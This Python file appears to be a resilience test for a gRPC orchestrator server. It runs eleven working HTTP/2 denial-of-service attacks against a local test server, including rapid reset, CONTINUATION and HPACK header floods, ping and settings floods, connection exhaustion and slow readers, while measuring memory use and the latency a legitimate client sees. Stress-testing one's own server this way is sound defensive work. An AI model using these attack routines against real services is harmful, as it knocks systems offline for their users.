"""Clients that mean harm, each for a while, beside one that does not; and what that cost.

An attack is a function of the server's address and the moment to end at; it returns how much of it
it did. What is measured: the most memory that the server had, the calls of a well-behaved client on
a connection of its own, and whether it serves afterwards.
"""

import contextlib
import resource
import select
import socket
import threading
import time

import grpc
import raw_http2
import swoosh_server
from raw_http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    frame,
)
from swoosh.v1 import orchestrator_pb2, orchestrator_pb2_grpc
from swoosh_api import COUNTER, create, register, send, submit

GET_STATE = "/swoosh.v1.Orchestrator/GetState"
LIST_INSTANCES = "/swoosh.v1.Orchestrator/ListInstances"
SUBMIT = "/swoosh.v1.Orchestrator/Submit"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
CONNECTIONS = 10_000
FEW_CONNECTIONS = 8
BATCH = 100
MESSAGE_BYTES_MAX = 4 * 1024 * 1024
INSTANCES = 1_000
CONTEXT_BYTES = 4_000
RSS_MIB_MAX = 2_048
GOOD_PAUSE_SECONDS = 0.005
CALL_SECONDS_MAX = 30


def _again(address, end, attack):
    """Runs attack(connection) on a connection after the other, until it is time."""
    done = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), Connection(address) as connection:
            while time.monotonic() < end:
                count, goes_on = attack(connection)
                done += count
                if not goes_on or not connection.drain():
                    break
    return done


def rapid_reset(address, end):
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    headers = raw_http2.call_headers(GET_STATE)
    reset = CANCEL.to_bytes(4, "big")

    def attack(connection):
        batch = b""
        for _ in range(BATCH):
            stream = connection.stream()
            batch += frame(HEADERS, END_HEADERS, stream, headers)
            batch += frame(DATA, END_STREAM, stream, raw_http2.message(b""))
            batch += frame(RST_STREAM, 0, stream, reset)
        return BATCH, connection.send(batch)

    return _again(address, end, attack)


def header_flood(address, end):
    """One header of a gigabyte, in frames without end (CVE-2023-33953, CVE-2024-27316)."""
    piece = b"x" * 16_384

    def attack(connection):
        begin = raw_http2.call_headers(GET_STATE) + b"\x00" + raw_http2.text(b"x-long")
        begin += raw_http2.length_only(1 << 30)
        goes_on = connection.send(frame(HEADERS, 0, 1, begin))
        sent = 0
        while goes_on and time.monotonic() < end:
            goes_on = connection.send(frame(CONTINUATION, 0, 1, piece)) and connection.drain()
            sent += 1
        return sent, False

    return _again(address, end, attack)


def header_bomb(address, end):
    """Four kilobytes that come to be four megabytes: one entry of the table, a thousand times."""

    def attack(connection):
        block = raw_http2.call_headers(GET_STATE)
        block += raw_http2.indexed_literal(b"x-bomb", b"y" * 3_900) + raw_http2.indexed(62) * 1_000
        stream = connection.stream()
        return 1, connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))

    return _again(address, end, attack)


def ping_flood(address, end):
    return _again(
        address, end, lambda each: (BATCH, each.send(frame(PING, 0, 0, b"hostile!") * BATCH))
    )


def settings_flood(address, end):
    """Settings, each of which is to be acknowledged, to a client that does not read."""
    done = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), Connection(address, receive_bytes=4_096) as connection:
            connection.socket.settimeout(0.5)
            while time.monotonic() < end and connection.send(frame(SETTINGS, 0, 0) * BATCH):
                done += BATCH
    return done


def connections(address, end):
    """Very many of them, half of which never say a word."""
    held = []
    host, _, port = address.rpartition(":")
    try:
        while len(held) < CONNECTIONS and time.monotonic() < end:
            with contextlib.suppress(OSError):
                each = socket.create_connection((host, int(port)), timeout=5)
                held.append(each)
                if len(held) % 2 == 0:
                    each.sendall(raw_http2.PREFACE + raw_http2.settings())
        time.sleep(max(0, end - time.monotonic()))
        return len(held)
    finally:
        for each in held:
            each.close()


def _on_few(address, end, begin):
    """Runs begin(connection) on a few connections, which are held and not read until the end. The
    server may close them; what was begun is counted."""
    held, done = [], 0
    try:
        for _ in range(FEW_CONNECTIONS):
            with contextlib.suppress(OSError):
                held.append(Connection(address, receive_bytes=4_096, initial_window_size=0))
                done += begin(held[-1], end)
        time.sleep(max(0, end - time.monotonic()))
        return done
    finally:
        for each in held:
            each.close()


def slow_readers(address, end):
    """Long lists asked for, and not a byte of them received."""
    asked = orchestrator_pb2.ListInstancesRequest(page_size=INSTANCES).SerializeToString()

    def begin(connection, end):
        done = 0
        while done < 4_096 and time.monotonic() < end:
            stream = connection.stream()
            sent = connection.send(
                frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(LIST_INSTANCES))
                + frame(DATA, END_STREAM, stream, raw_http2.message(asked))
            )
            if not sent:
                break
            done += 1
        return done

    return _on_few(address, end, begin)


def half_messages(address, end):
    """Messages of 4 MiB that are begun, as far as the windows let them, and never ended."""
    piece = b"z" * 16_000

    def begin(connection, end):
        done = 0
        while done < 4_096 and time.monotonic() < end:
            stream = connection.stream()
            begun = raw_http2.message(b"", MESSAGE_BYTES_MAX - 5)
            data = frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(SUBMIT))
            data += frame(DATA, 0, stream, begun) + frame(DATA, 0, stream, piece) * 3
            if not connection.send(data):
                break
            done += 1
        return done

    return _on_few(address, end, begin)


def reflection(address, end):
    """Streams of the one service that takes a thread for each."""

    def begin(connection, end):
        done = 0
        while done < 500 and time.monotonic() < end:
            stream = connection.stream()
            if not connection.send(
                frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(REFLECTION))
            ):
                break
            done += 1
        return done

    return _on_few(address, end, begin)


def oversize(address, end):
    """Messages that say they have a gigabyte."""

    def attack(connection):
        stream = connection.stream()
        data = frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(SUBMIT))
        data += frame(DATA, 0, stream, raw_http2.message(b"z" * 1_000, 1 << 30))
        return 1, connection.send(data)

    return _again(address, end, attack)


def garbage(address, end):
    """What is not HTTP/2."""
    host, _, port = address.rpartition(":")
    done = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 5) as each:
            each.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + bytes(range(256)) * 16)
            select.select([each], [], [], 1)
            done += 1
    return done


ATTACKS = (
    rapid_reset,
    header_flood,
    header_bomb,
    ping_flood,
    settings_flood,
    connections,
    slow_readers,
    half_messages,
    reflection,
    oversize,
    garbage,
)


def start_server():
    """A server with instances to list."""
    # Before the server, which has it too.
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    server = swoosh_server.Server()
    submit(server.orchestrator, register(COUNTER), create("good"))
    filler = {"filler": "f" * CONTEXT_BYTES}
    for first in range(0, INSTANCES, 100):
        ids = range(first, first + 100)
        submit(server.orchestrator, *(create(f"i{each}", context=filler) for each in ids))
    return server


def memory_bytes(server, field):
    """VmRSS: now; VmHWM: the most since it was forgotten."""
    with open(f"/proc/{server.pid}/status") as status:
        for line in status:
            if line.startswith(f"{field}:"):
                return int(line.split()[1]) * 1024
    raise swoosh_server.ServerError("it is gone")


def forget_most_memory(server):
    with open(f"/proc/{server.pid}/clear_refs", "w") as refs:
        refs.write("5")


class GoodClient:
    """Reads and writes all the time, on a connection of its own."""

    def __init__(self, server):
        self.seconds = []
        self.failed = []
        # With gRPC's own options: what the server did not begin is sent again.
        self._channel = grpc.insecure_channel(server.grpc_address)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self):
        stub = orchestrator_pb2_grpc.OrchestratorStub(self._channel)
        calls = (
            lambda: stub.GetState(orchestrator_pb2.GetStateRequest(), timeout=CALL_SECONDS_MAX),
            lambda: submit(stub, send("good")),
        )
        number = 0
        while not self._stop.wait(GOOD_PAUSE_SECONDS):
            number += 1
            begin = time.monotonic()
            try:
                calls[number % len(calls)]()
                self.seconds.append(time.monotonic() - begin)
            except grpc.RpcError as error:
                self.failed.append(f"{error.code().name}: {error.details()}")

    def stop(self):
        self._stop.set()
        self._thread.join()
        self._channel.close()

    def milliseconds(self, share):
        ordered = sorted(self.seconds)
        return round(1000 * ordered[int(share * (len(ordered) - 1))], 1) if ordered else None


def serves(server):
    """Whether somebody who comes now is served."""
    with server.new_channel() as channel:
        stub = orchestrator_pb2_grpc.OrchestratorStub(channel)
        try:
            asked = orchestrator_pb2.GetStateRequest()
            return stub.GetState(asked, timeout=CALL_SECONDS_MAX, wait_for_ready=True).index > 0
        except grpc.RpcError:
            return False


def run(server, attack, seconds):
    """What an attack (None: nobody's) of so many seconds came to."""
    forget_most_memory(server)
    before = memory_bytes(server, "VmRSS")
    good = GoodClient(server)
    try:
        end = time.monotonic() + seconds
        if attack is None:
            time.sleep(seconds)
            done = 0
        else:
            done = attack(server.grpc_address, end)
    finally:
        good.stop()
    return {
        "attack": attack.__name__ if attack else "none",
        "done": done,
        "rss_mib_before": before >> 20,
        "rss_mib_most": memory_bytes(server, "VmHWM") >> 20,
        "good_calls": len(good.seconds),
        "good_failed": len(good.failed),
        "good_p50_ms": good.milliseconds(0.5),
        "good_p99_ms": good.milliseconds(0.99),
        "good_most_ms": good.milliseconds(1),
        "serves": serves(server),
    } | ({"first_failure": good.failed[0]} if good.failed else {})


def violations(result):
    """What of a result must not be, in words."""
    found = []
    if not result["serves"]:
        found.append("it does not serve")
    if result["good_failed"]:
        found.append(f"{result['good_failed']} calls failed: {result['first_failure']}")
    if result["rss_mib_most"] > RSS_MIB_MAX:
        found.append(f"it had {result['rss_mib_most']} MiB")
    return found
